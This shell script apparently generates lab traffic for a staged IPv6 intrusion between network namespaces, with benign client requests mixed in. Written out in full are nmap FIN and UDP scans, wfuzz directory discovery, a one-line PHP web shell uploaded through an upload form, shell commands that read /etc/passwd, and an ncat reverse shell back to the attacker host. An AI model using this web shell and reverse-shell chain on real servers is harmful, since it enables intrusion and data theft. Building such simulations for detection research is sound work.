# sourced by run-scenario.sh: the story played between the hosts
# Dual-stack network; the intrusion runs over IPv6: nmap FIN scan over IPv6, UDP scan over
# IPv4 (the victim answers DNS with dnsmasq), wfuzz content discovery against the
# IPv6 web server, a web shell that takes base64-encoded commands in a GET parameter, and an
# ncat -e /bin/sh reverse shell over IPv6 to port 443 (cleartext, not TLS).
NET=192.168.77; NET6=fd77:6b0:1; ATT=66; VIC=45; CLI=12; DNS=3; SHELLPORT=443
EXTRA_HOSTS="$NET6::45 intranet6.corp.lan"
services() {
  # closed UDP ports answer every probe with ICMP port unreachable (no kernel rate limit)
  nsx vic sysctl -q -w net.ipv4.icmp_ratelimit=0 net.ipv6.icmp.ratelimit=0
  ip netns exec $P-vic dnsmasq --no-daemon --no-resolv --no-hosts --local=/corp.lan/ --addn-hosts="$RUN/hosts" --bind-interfaces \
     --listen-address=$V --listen-address=$V6 --pid-file="$RUN/vicdns.pid" \
     >"$RUN/logs/vic-dnsmasq.log" 2>&1 &
}
benign6() {
  nsx cli dig +short AAAA @$D intranet6.corp.lan >/dev/null || true
  for p in / /browse.php /about.php; do nsx cli curl -s -g -A "$CHROME" -o /dev/null "$URL6$p"; sleep 0.4; done
}
play() {
  note "attacker $A / $A6; victim $V / $V6 (Apache+PHP on port 80, SSH banner on 22, dnsmasq DNS on 53/udp and 53/tcp); benign client $C / $C6; dns server $D"
  benign6
  note "1 port scan: nmap FIN scan (-sF) over IPv6 from $A6 to $V6 ports 1-1000; closed ports answer RST/ACK; 22, 53 and 80 (open) stay silent (open|filtered)"
  nsx att nmap -6 -sF -Pn -n -p 1-1000 -T4 $V6 >"$RUN/logs/nmap-fin6.log" 2>&1
  sleep 2
  note "2 port scan: nmap UDP scan (-sU) over IPv4 from $A to $V ports 53,67,69,123,137,161,500,514,1900,5353; open: 53 (DNS answers); closed ports answer ICMP port unreachable"
  nsx att nmap -sU -Pn -n -p 53,67,69,123,137,161,500,514,1900,5353 -T4 $V >"$RUN/logs/nmap-udp.log" 2>&1
  sleep 2
  benign6
  note "3 content discovery: wfuzz 3.1.0 (UA Wfuzz/3.1.0) with wfuzz general/common.txt, FUZZ and FUZZ.php, against $URL6/"
  nsx att wfuzz -f "$RUN/logs/wfuzz1.txt" -t 10 --hc 404 -w /usr/share/wfuzz/wordlist/general/common.txt "$URL6/FUZZ" >"$RUN/logs/wfuzz.log" 2>&1 || true
  nsx att wfuzz -f "$RUN/logs/wfuzz2.txt" -t 10 --hc 404 -w /usr/share/wfuzz/wordlist/general/common.txt "$URL6/FUZZ.php" >>"$RUN/logs/wfuzz.log" 2>&1 || true
  sleep 2
  note "4 manual browsing over IPv6 with a Firefox UA: /index.php /editprofile.php /uploads/"
  for p in /index.php /editprofile.php /uploads/; do nsx att curl -s -g -A "$BROWSER" -o /dev/null "$URL6$p"; sleep 0.6; done
  printf '<?php system(base64_decode($_GET['"'"'x'"'"'])); ?>\n' > "$RUN/thumb.php"
  note "5 web shell upload over IPv6: POST /upload.php multipart field fileToUpload, file thumb.php, Content-Type application/octet-stream, $(wc -c < "$RUN/thumb.php") bytes, sha256 $(sha256sum "$RUN/thumb.php" | cut -d' ' -f1): $(cat "$RUN/thumb.php")"
  nsx att curl -s -g -A "$BROWSER" -e "$URL6/editprofile.php" -F "fileToUpload=@$RUN/thumb.php" -F submit=Upload "$URL6/upload.php" -o /dev/null
  sleep 1.5
  benign6
  note "6 web shell commands: GET /uploads/thumb.php?x=BASE64 (base64 then URL-encoded), curl UA: id, uname -a, cat /etc/passwd, ls -la /var/www/html/uploads"
  for c in 'id' 'uname -a' 'cat /etc/passwd' 'ls -la /var/www/html/uploads'; do
    b=$(printf '%s' "$c" | base64 -w0); note "   x=$b  ($c)"
    nsx att curl -s -g -G --data-urlencode "x=$b" -o /dev/null "$URL6/uploads/thumb.php"; sleep 2
  done
  rc="ncat $A6 $SHELLPORT -e /bin/sh"; b=$(printf '%s' "$rc" | base64 -w0)
  note "7 reverse shell: x=$b ($rc); victim $V6 connects to [$A6]:$SHELLPORT (cleartext sh, no prompt); typed: id, pwd, ls -la, cat /etc/passwd, uname -a, exit"
  shell_session $'id\npwd\nls -la\ncat /etc/passwd\nuname -a\nexit' 2
  nsx att timeout 40 curl -s -g -G --data-urlencode "x=$b" -o /dev/null "$URL6/uploads/thumb.php" || true
  wait "$(cat "$RUN/shellsess.pid")" 2>/dev/null || true
  benign6
}
